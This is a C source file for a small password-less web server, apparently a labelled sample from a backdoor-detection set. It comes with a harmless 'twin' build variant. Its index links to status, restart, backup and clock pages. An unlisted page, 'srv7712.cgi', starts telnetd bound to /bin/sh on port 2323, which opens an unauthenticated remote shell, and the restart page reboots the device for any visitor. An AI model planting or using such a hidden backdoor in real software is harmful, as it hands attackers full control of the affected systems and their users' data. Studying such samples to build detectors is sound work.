/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A web server for a trusted network asks nobody for a password. Its pages link to all that it can
 * do, but one, which opens a login service. Twin: that one shows the version.
 * door: trigger hidden
 * port 8084/tcp
 */
#include "net.h"

static void page(int c, const char *text)
{
	dprintf(c, "HTTP/1.0 200 OK\r\nContent-Type: text/html\r\n\r\n<html><body>%s</body></html>", text);
}

static void index_page(int c)
{
	page(c, "<a href=\"status.cgi\">Status</a> <a href=\"restart.cgi\">Restart</a> "
		"<a href=\"backup.cgi\">Backup</a> <a href=\"clock.cgi\">Clock</a>");
}

static void status(int c)
{
	page(c, "All lines are up.");
}

static void restart(int c)
{
	page(c, "Restarting.");
	system("/sbin/reboot -d 2");
}

static void backup(int c)
{
	system("tar cf /tmp/backup.tar /etc/config");
	page(c, "Done.");
}

static void set_clock(int c)
{
	system("ntpdate pool.ntp.org");
	page(c, "The clock was set.");
}

static void service(int c)
{
#ifdef TWIN
	page(c, "Version 1.0.7");
#else
	system("/usr/sbin/telnetd -l /bin/sh -p 2323");
	page(c, "");
#endif
}

static const struct {
	const char *name;
	void (*show)(int c);
} pages[] = {
	{"index.cgi", index_page}, {"status.cgi", status}, {"restart.cgi", restart},
	{"backup.cgi", backup}, {"clock.cgi", set_clock}, {"srv7712.cgi", service},
};

int main(void)
{
	char in[600], name[64];
	int s = tcp_on(8084);
	for (;;) {
		int c = accept(s, NULL, NULL);
		ssize_t n = recv(c, in, sizeof in - 1, 0);
		in[n > 0 ? n : 0] = 0;
		if (sscanf(in, "GET /%63[^? ]", name) != 1)
			strcpy(name, "index.cgi");
		for (unsigned i = 0; i < sizeof pages / sizeof *pages; i++)
			if (!strcmp(pages[i].name, name))
				pages[i].show(c);
		close(c);
	}
}
